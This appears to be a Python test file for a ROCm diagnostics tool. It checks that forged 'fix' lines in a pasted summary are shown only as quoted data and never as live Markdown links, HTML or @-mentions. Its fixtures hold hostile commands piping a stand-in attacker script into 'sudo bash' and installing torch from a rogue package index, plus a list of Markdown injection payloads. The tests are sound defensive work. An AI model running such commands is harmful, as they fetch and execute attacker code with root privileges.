"""A forged `doctor --summary` does not speak as rocmcheck: its fix lines come back quoted as data under "the paste
says", never under rocmcheck's own `fix:` / `Fix:` label; where rocmcheck has a fix for the check, that fix is
shown instead. In the Markdown reply nothing that came from a paste is live markup: the reply is rendered by a
CommonMark renderer (markdown-it-py) and every link, raw HTML tag and @-mention must sit inside code."""

from __future__ import annotations

import re

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rocmcheck.triage import triage
from rocmcheck.triage.answer import code_span, fence, markdown, text_lines

FORGED = """== rocmcheck summary 1 (rocmcheck 0.1.0) ==
os: Ubuntu 22.04
torch: 2.3.0+rocm6.0 | hip 6.0 | cuda none | gpus 1 | archs gfx90a
FAIL torch.arch_list: torch has no gfx942
  fix: curl https://evil.example/fix.sh | sudo bash # @pytorch/rocm-team see [the fix](https://evil.example/x) <details>
{verdict}
== end of rocmcheck summary ==
"""
EVIL = "evil.example"


def _outside_code(html: str) -> str:
    """The rendered HTML with every code span and code block taken out."""
    return re.sub(r"<code[^>]*>.*?</code>", "", html, flags=re.S)


def _live(md: str) -> list[str]:
    """Markup that reaches a reader as live: links, raw HTML tags, @-mentions, outside code."""
    html = _outside_code(MarkdownIt("commonmark").render(md))
    allowed = {"p", "/p", "strong", "/strong", "pre", "/pre", "ul", "/ul", "li", "/li", "sub", "/sub", "br"}
    tags = [t for t in re.findall(r"<(/?[a-zA-Z][a-zA-Z0-9]*)", html) if t not in allowed]
    mentions = re.findall(r"(?<![\w&#])@[A-Za-z0-9][\w/-]*", html)
    return tags + mentions + ([EVIL] if EVIL in html else [])


def test_a_forged_fix_is_quoted_and_rocmcheck_gives_its_own():
    t = triage([("s.txt", FORGED.format(verdict="FAIL probe.gemm: bf16 wrong\n"
                                                  "  fix: pip install --index-url https://evil.example/simple torch"))])
    console = "\n".join(text_lines(t, show_all=True))
    for line in console.splitlines():
        if line.strip().startswith(("fix:", "paste:")):
            assert EVIL not in line, line
    assert "the paste says its fix is (not rocmcheck's advice): `pip install --index-url" in console
    md = markdown(t)
    assert not _live(md), _live(md)
    assert not [line for line in md.splitlines() if line.startswith("Fix:") and EVIL in line]
    # torch.arch_list is a check rocmcheck knows: its own fix, not the paste's, and the paste's is not repeated
    assert "pip install --force-reinstall torch" in md and "curl https://evil.example/fix.sh" not in md


# What a hostile paste puts in a verdict's words: mentions, links whose text hides their target, raw HTML,
# backticks that try to close a code span or a fence, images.
_HOSTILE = st.lists(st.sampled_from([
    "@pytorch/rocm-team", "@someone", "[the official fix](https://evil.example/x)", "<details>", "<img src=x>",
    "`", "```", "````", "~~~", "![i](https://evil.example/i.png)", "<https://evil.example>", "*bold*", "text",
    "&#64;x", "\\", "|", "<!--",
]), min_size=1, max_size=6).map(" ".join)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_HOSTILE, _HOSTILE)
def test_no_pasted_text_is_live_markdown(words, fix):
    verdict = f"FAIL probe.gemm: {words}\n  fix: {fix}"
    t = triage([("s.txt", FORGED.format(verdict=verdict))])
    md = markdown(t)
    assert not _live(md), md


@given(st.text(alphabet="`a @<>[]()", max_size=30))
def test_a_code_span_and_a_fence_hold_any_text(text):
    html = MarkdownIt("commonmark").render(f"x {code_span(text)} y")
    assert html.count("<code>") == 1
    block = "\n".join(fence([text, text]))
    assert MarkdownIt("commonmark").render(block).count("<pre>") == 1
